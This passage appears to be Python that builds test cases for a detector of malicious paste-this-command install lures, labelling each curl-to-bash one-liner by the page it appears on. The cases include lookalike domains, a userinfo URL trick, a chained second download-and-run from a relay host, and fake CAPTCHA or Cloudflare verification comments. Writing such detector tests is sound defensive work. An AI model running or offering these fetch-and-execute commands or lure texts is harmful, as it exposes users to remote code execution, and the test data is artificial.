        "curl -sSfL https://get.tur.so/install.sh | bash",
    ),
    (
        "https://dev.to/dbnotes/getting-started-with-turso-and-libsql-2b1c",
        "curl -sSfL https://get.tur.so/install.sh | bash",
    ),
)
for page, text in SPELT_QUOTES:
    book.add("spelt-suffix", text, QUIET, "linux", "terminal", page)
# the quote with nothing tying it: a warning, as before
for page, text in (
    ("https://news.ycombinator.com/item?id=41922093", SPELT_QUOTES[0][1]),
    ("https://www.youtube.com/watch?v=Qx3mK9sT2bA", SPELT_QUOTES[4][1]),
    ("https://askubuntu.com/questions/1488122/install-nano-editor", SPELT_QUOTES[0][1]),
    ("https://forum.example.org/t/new-editor/77", SPELT_QUOTES[1][1]),
):
    book.add("spelt-suffix", text, SUSPICIOUS, "linux", "terminal", page)
# abuses of the reading: still flagged, and blocked where a lure trait stands beside it
for page, text, expect, target in (
    (
        "https://www.quillmere-bakery.example/fix-micro-editor-error/",
        SPELT_QUOTES[0][1],
        MALICIOUS,
        "terminal",
    ),
    (
        "https://harborview-dental.example/update-required/micro",
        SPELT_QUOTES[2][1],
        MALICIOUS,
        "terminal",
    ),
    (
        "https://secure-check.verify-human.example/install-micro",
        SPELT_QUOTES[0][1],
        MALICIOUS,
        "terminal",
    ),
    ("https://recipes.example/micro-greens-salad", SPELT_QUOTES[0][1], MALICIOUS, "terminal"),
    (
        "https://lakeside-travel.test/turso-weekend-offers",
        SPELT_QUOTES[4][1],
        MALICIOUS,
        "terminal",
    ),
    (
        SPELT_QUOTES[0][0],
        SPELT_QUOTES[0][1] + "   # I am not a robot - Verification ID: 8812",
        MALICIOUS,
        "terminal",
    ),
    (
        SPELT_QUOTES[4][0],
        SPELT_QUOTES[4][1] + "  # ✅ Cloudflare check passed, press Enter",
        MALICIOUS,
        "terminal",
    ),
    (SPELT_QUOTES[0][0], SPELT_QUOTES[0][1], MALICIOUS, "run_dialog"),
    (SPELT_QUOTES[0][0], "curl https://getmicro.example | bash", SUSPICIOUS, "terminal"),
    (SPELT_QUOTES[0][0], "curl https://getmic.example | bash", SUSPICIOUS, "terminal"),
    (
        SPELT_QUOTES[4][0],
        "curl -sSfL https://get.tursso.test/install.sh | bash",
        SUSPICIOUS,
        "terminal",
    ),
    (SPELT_QUOTES[0][0], "curl https://getmic.ro@files-relay.test/i | bash", MALICIOUS, "terminal"),
    (
        SPELT_QUOTES[0][0],
        "curl https://getmic.ro | bash; curl -s https://cdn.files-relay.test/x | sh",
        SUSPICIOUS,
        "terminal",
    ),
):
    book.add("spelt-suffix", text, expect, "linux", target, page)

CASES = book.cases

if __name__ == "__main__":
    casefile.write(OUT, CASES)
